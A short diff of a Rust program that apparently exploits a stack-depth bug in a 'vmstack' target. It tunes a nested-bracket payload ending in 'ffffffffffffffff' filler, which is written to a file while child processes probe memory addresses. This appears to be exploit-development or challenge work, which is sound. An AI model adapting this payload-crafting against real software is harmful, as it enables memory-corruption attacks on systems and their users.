@@ -18,8 +18,8 @@ use vmstack_programs::{NEST, spawn, wait};
 
 /// More than a stack can hold, less than the file takes at once.
 const DEEPEST: usize = 200;
-/// More square brackets than one round one takes.
-const SQUARES: usize = 10;
+/// As many square brackets take as much as a round one.
+const SQUARES: usize = 7;
 /// A child that went not deep enough.
 const NOT_YET: i32 = 7;
 
@@ -51,9 +51,9 @@ fn search(address: usize) -> io::Result<bool> {
     Ok(false)
 }
 
-/// One child.
+/// One child. The round brackets are inside, so that the last frame is one that is full of the number.
 fn attempt(round: usize, square: usize, address: usize) -> i32 {
-    if fs::write(NEST, "(".repeat(round) + &"[".repeat(square) + "ffffffffffffffff").is_err() {
+    if fs::write(NEST, "[".repeat(square) + &"(".repeat(round) + "ffffffffffffffff").is_err() {
         return 1;
     }
     if !may_name(address) {
